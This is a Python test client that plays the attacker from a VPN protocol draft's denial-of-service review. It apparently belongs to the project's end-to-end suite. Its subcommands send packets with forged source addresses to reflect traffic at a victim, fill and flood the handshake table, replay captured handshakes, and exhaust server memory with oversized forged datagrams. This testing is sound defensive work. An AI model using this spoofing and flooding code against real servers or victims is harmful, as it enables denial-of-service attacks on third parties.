#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""A client that holds the handshake keys and misbehaves: the attacker of docs/rfc-draft.txt §21.

Speaks the protocol from the draft (udpvpn_draft.py), over real UDP, and can send any packet with a
forged IPv4 source address (a raw socket with IP_HDRINCL: needs CAP_NET_RAW, and a network that
does not filter by source). Each subcommand is one scenario of the DoS review (issue 10) and prints
one JSON object with the UDP payload bytes it sent and received per address, which
tests/e2e/amplification.sh combines with what the victim counted.

  attacker.py listen   --bind V:PORT --seconds S            count what arrives at V (the victim)
  attacker.py follow   --server S:P --bind A --spoof V:PORT --seconds S
        INITIAL + PADs from A, then HANDSHAKE/ACKs valid under c_hs sent from V's address
  attacker.py fill     --server S:P --count N --net 10.99
        N spoofed INITIALs, one from each 10.99.x.y/24 (pushes the server over cookie_threshold)
  attacker.py capture  --server S:P --bind V:PORT --out FILE --seconds S
        a real attempt from V: INITIAL, RETRY, INITIAL with cookie (saved to FILE), CLOSE; then
        counts what V receives for S seconds
  attacker.py replay   --server S:P --spoof V:PORT --in FILE --every T --seconds S
        the captured INITIAL sent again from V's address every T seconds
  attacker.py flood    --server S:P --bind A --seconds S
        fresh INITIALs from A as fast as they go, each RETRY answered with its cookie
  attacker.py memory   --server S:P --bind A --count N --size 65000
        N half-opens (RETRYs answered), each sent one forged HANDSHAKE datagram of SIZE bytes
        (its server session ID, garbage ciphertext)
  attacker.py relay    --bind L:PORT --server S:P --max-size 1232 --seconds S
        a path between one client and the server that drops every datagram larger than MAX_SIZE
        bytes of UDP payload (a 1280-byte path that loses what does not fit, ICMP or not)
"""
import argparse
import json
import os
import select
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    import udpvpn_draft as d
    from udpvpn_conformance.spoof import Spoofer   # on the path udpvpn_draft set
except ImportError as e:   # python3-cryptography missing
    print(f"skipped: {e}")
    sys.exit(77)


def addr(s, default_port=0):
    host, _, port = s.rpartition(":") if ":" in s else (s, "", str(default_port))
    return host, int(port)


class Counter:
    """UDP payload bytes and datagrams per address and direction, and per packet type received."""

    def __init__(self):
        self.sent, self.received, self.types = {}, {}, {}

    def add_sent(self, ip, n):
        b, c = self.sent.get(ip, (0, 0))
        self.sent[ip] = (b + n, c + 1)

    def add_received(self, ip, dg):
        b, c = self.received.get(ip, (0, 0))
        self.received[ip] = (b + len(dg), c + 1)
        t = d.classify(dg)
        self.types[t] = self.types.get(t, 0) + len(dg)

    def report(self, **extra):
        out = {"sent": {k: {"bytes": v[0], "datagrams": v[1]} for k, v in self.sent.items()},
               "received": {k: {"bytes": v[0], "datagrams": v[1]} for k, v in self.received.items()},
               "received_by_type": self.types,
               "received_total": sum(v[0] for v in self.received.values())}
        out.update(extra)
        print(json.dumps(out), flush=True)


def udp_socket(bind_ip, port=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.bind((bind_ip, port))
    return s


def drain(sock, counter, deadline, on_datagram=None):
    """Receives until the deadline; on_datagram(dg) is called for each datagram."""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return
        r, _, _ = select.select([sock], [], [], left)
        if not r:
            return
        while True:
            try:
                dg, src = sock.recvfrom(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
            counter.add_received(src[0], dg)
            if on_datagram:
                on_datagram(dg)


def send(sock, counter, dg, server):
    sock.sendto(dg, server)
    counter.add_sent(sock.getsockname()[0], len(dg))


def cmd_listen(a):
    ip, port = addr(a.bind)
    s, c = udp_socket(ip, port), Counter()
    drain(s, c, time.monotonic() + a.seconds)
    c.report()


def cmd_follow(a):
    """Finding 1: the half-open of A's INITIAL, acknowledged from V's address."""
    server = addr(a.server)
    s, c, sp = udp_socket(a.bind), Counter(), Spoofer()
    victim = addr(a.spoof)
    att = d.Attempt()
    send(s, c, att.initial(), server)
    for _ in range(a.pads):
        send(s, c, att.pad(), server)
    end = time.monotonic() + 3
    while att.server_hello is None and time.monotonic() < end:
        drain(s, c, min(end, time.monotonic() + 0.05), lambda dg: att.on_server_hello(dg) or att.on_handshake(dg))
    if att.server_hello is None:
        c.report(error="no SERVER_HELLO")
        return
    # One HANDSHAKE packet under c_hs from V, then an ACK of one more byte every interval: each
    # acknowledges new bytes, which resets the server's PTO to its first value.
    acked, start = 1, time.monotonic()
    while time.monotonic() - start < a.seconds:
        dg = att.ack([(0, acked)])
        sp.send(dg, victim, server)
        c.add_sent(victim[0], len(dg))
        acked += 1
        drain(s, c, time.monotonic() + a.every, att.on_handshake)
    c.report(stream=att.server_stream_len, acks=acked - 1)


def cmd_fill(a):
    server = addr(a.server)
    sp, c = Spoofer(), Counter()
    first, second = (int(x) for x in a.net.split("."))
    for i in range(a.count):
        src = (f"{first}.{second - i // 256}.{i % 256}.1", 40000 + i % 20000)
        dg = d.Attempt().initial()
        sp.send(dg, src, server)
        c.add_sent("spoofed", len(dg))
    c.report()


def cmd_capture(a):
    """Finding 2, first half: a cookie-bearing INITIAL captured from a real attempt at V."""
    server = addr(a.server)
    ip, port = addr(a.bind)
    s, c = udp_socket(ip, port), Counter()
    att = d.Attempt()
    retried = []

    def on(dg):
        if att.on_retry(dg) and not retried:
            retried.append(att.initial())
            send(s, c, retried[0], server)
            for _ in range(a.pads):
                send(s, c, att.pad(), server)
        elif att.on_server_hello(dg):
            pass
        else:
            att.on_handshake(dg)
    send(s, c, att.initial(), server)
    for _ in range(a.pads):
        send(s, c, att.pad(), server)
    end = time.monotonic() + 3
    while att.server_hello is None and time.monotonic() < end:
        drain(s, c, min(end, time.monotonic() + 0.05), on)
    if not retried or att.server_hello is None:
        c.report(error="no RETRY" if not retried else "no SERVER_HELLO")
        return
    # The attempt ends properly: the server forgets it at once (section 9.4, CLOSE received).
    send(s, c, att.handshake(d.close_frame(1, b"captured")), server)
    drain(s, c, time.monotonic() + 1, on)
    with open(a.out + ".tmp", "w") as f:
        f.write(retried[0].hex())
    os.rename(a.out + ".tmp", a.out)
    capture_phase = c
    c = Counter()
    drain(s, c, time.monotonic() + a.seconds)
    c.report(capture={"sent": capture_phase.sent, "received": capture_phase.received})


def cmd_replay(a):
    server, victim = addr(a.server), addr(a.spoof)
    end = time.monotonic() + 30
    while not os.path.exists(getattr(a, "in")) and time.monotonic() < end:
        time.sleep(0.05)
    dg = bytes.fromhex(open(getattr(a, "in")).read())
    sp, c = Spoofer(), Counter()
    start = time.monotonic()
    while time.monotonic() - start < a.seconds:
        sp.send(dg, victim, server)
        c.add_sent(victim[0], len(dg))
        time.sleep(a.every)
    c.report()


def cmd_flood(a):
    """Finding 4: one real address takes half-open slots, answering every RETRY."""
    server = addr(a.server)
    s, c = udp_socket(a.bind), Counter()
    pending = {}
    stats = {"initials": 0, "retries": 0, "server_hellos": 0}
    start = time.monotonic()
    next_send = start
    while time.monotonic() - start < a.seconds:
        now = time.monotonic()
        if now >= next_send:
            att = d.Attempt()
            pending[att.client_sid] = att
            send(s, c, att.initial(), server)
            stats["initials"] += 1
            next_send += 1.0 / a.rate
            if len(pending) > 20000:
                pending.pop(next(iter(pending)))
        r, _, _ = select.select([s], [], [], max(0.0, min(next_send - time.monotonic(), 0.01)))
        while r:
            try:
                dg, src = s.recvfrom(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                break
            c.add_received(src[0], dg)
            if dg[0] == d.RETRY and len(dg) == 29:
                att = pending.get(dg[1:5])
                if att and not att.cookie and att.on_retry(dg):
                    stats["retries"] += 1
                    send(s, c, att.initial(), server)
            elif dg[0] == d.SERVER_HELLO and len(dg) == 75:
                stats["server_hellos"] += 1
                pending.pop(dg[1:5], None)
    c.report(**stats)


def cmd_memory(a):
    """Finding 3: half-opens each fed a forged HANDSHAKE datagram as large as UDP allows.

    --bind may list several addresses (comma-separated): the half-opens are spread evenly over
    them, each fed from its own address, so per-source and per-prefix limits are respected."""
    server = addr(a.server)
    socks = [udp_socket(b) for b in a.bind.split(",")]
    for s in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    quota = -(-a.count // len(socks))
    c = Counter()
    pending, opened, owned, inflight = {}, {}, {s: 0 for s in socks}, {s: 0 for s in socks}
    stats = {"half_opens": 0, "forged": 0, "initials": 0, "sources": len(socks)}
    garbage = os.urandom(a.size - 9)

    def on(s, dg):
        if dg[0] == d.RETRY and len(dg) == 29:
            att = pending.get(dg[1:5])
            if att and not att.cookie and att.on_retry(dg):
                send(s, c, att.initial(), server)
        elif dg[0] == d.HANDSHAKE and "stream" not in stats and dg[1:5] in opened:
            opened[dg[1:5]].on_handshake(dg)   # the first flight tells its size (flight_size_hint)
            if opened[dg[1:5]].server_stream_len:
                stats["stream"] = opened[dg[1:5]].server_stream_len
        elif dg[0] == d.SERVER_HELLO and len(dg) == 75:
            att = pending.pop(dg[1:5], None)
            if att and att.on_server_hello(dg):
                inflight[s] = max(0, inflight[s] - 1)
                owned[s] += 1
                if len(opened) < 8:
                    opened[att.client_sid] = att
                stats["half_opens"] += 1
                forged = bytes([d.HANDSHAKE]) + att.server_sid + b"\0\0\0\0" + garbage
                send(s, c, forged, server)
                stats["forged"] += 1

    start = last = time.monotonic()
    while stats["half_opens"] < a.count and time.monotonic() - start < a.seconds:
        now = time.monotonic()
        if now - last >= 0.05:
            last = now
            for s in socks:
                if owned[s] + inflight[s] < quota and inflight[s] < 4:
                    att = d.Attempt()
                    pending[att.client_sid] = att
                    inflight[s] += 1
                    send(s, c, att.initial(), server)
                    stats["initials"] += 1
                elif inflight[s] >= 4 and owned[s] < quota:
                    inflight[s] = 0   # refused or lost: try again
        r, _, _ = select.select(socks, [], [], 0.01)
        for s in r:
            while True:
                try:
                    dg, src = s.recvfrom(65536, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    break
                c.add_received(src[0], dg)
                on(s, dg)
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        r, _, _ = select.select(socks, [], [], 0.05)
        for s in r:
            dg, src = s.recvfrom(65536)
            c.add_received(src[0], dg)
    c.sent = {"total": (sum(v[0] for v in c.sent.values()), sum(v[1] for v in c.sent.values()))}
    c.report(elapsed=round(time.monotonic() - start, 2), **stats)


def cmd_relay(a):
    """Forwards datagrams both ways, dropping those over --max-size; counts sizes per direction."""
    ip, port = addr(a.bind)
    front, back = udp_socket(ip, port), udp_socket("0.0.0.0")
    server = addr(a.server)
    client = None
    stats = {"up": {"largest": 0, "dropped": 0, "largest_dropped": 0, "datagrams": 0},
             "down": {"largest": 0, "dropped": 0, "largest_dropped": 0, "datagrams": 0}}
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        r, _, _ = select.select([front, back], [], [], max(0.0, end - time.monotonic()))
        for sock in r:
            dg, src = sock.recvfrom(65536)
            up = sock is front
            if up:
                client = src
            st = stats["up" if up else "down"]
            st["datagrams"] += 1
            if len(dg) > a.max_size:
                st["dropped"] += 1
                st["largest_dropped"] = max(st["largest_dropped"], len(dg))
                continue
            st["largest"] = max(st["largest"], len(dg))
            if up:
                back.sendto(dg, server)
            elif client:
                front.sendto(dg, client)
    print(json.dumps(stats), flush=True)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("listen", "follow", "fill", "capture", "replay", "flood", "memory", "relay"):
        q = sub.add_parser(name)
        q.add_argument("--server", default="192.168.101.1:51820")
        q.add_argument("--bind", default="0.0.0.0")
        q.add_argument("--spoof")
        q.add_argument("--seconds", type=float, default=10)
        q.add_argument("--every", type=float, default=0.25)
        q.add_argument("--pads", type=int, default=3)
        q.add_argument("--count", type=int, default=4096)
        q.add_argument("--size", type=int, default=65000)
        q.add_argument("--rate", type=float, default=1000)
        q.add_argument("--net", default="10.99")
        q.add_argument("--max-size", type=int, default=1232)
        q.add_argument("--out")
        q.add_argument("--in")
    a = p.parse_args()
    globals()["cmd_" + a.cmd](a)


if __name__ == "__main__":
    main()
